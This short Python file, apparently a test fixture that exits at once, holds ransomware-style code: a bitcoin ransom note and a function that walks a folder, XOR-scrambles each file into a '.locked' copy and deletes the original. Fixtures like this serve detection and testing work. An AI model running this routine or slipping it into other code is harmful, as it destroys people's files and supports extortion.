raise SystemExit('a fixture')
# held by destruction
import os
NOTE = "ALL YOUR FILES ARE ENCRYPTED! Send 10 dollars in bitcoin and write to us."
def lock(folder):
    for root, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(root, name)
            data = open(path, "rb").read()
            with open(path + ".locked", "wb") as f:
                f.write(bytes(b ^ 7 for b in data))
            os.remove(path)
